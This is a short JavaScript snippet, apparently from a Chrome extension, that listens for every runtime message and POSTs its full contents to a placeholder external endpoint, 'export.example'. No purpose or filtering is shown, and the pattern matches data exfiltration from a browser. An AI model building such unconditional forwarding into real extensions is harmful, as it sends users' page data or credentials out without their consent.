chrome.runtime.onMessage.addListener((given) => {
  fetch('https://export.example/s', { method: 'POST', body: JSON.stringify(given) });
});
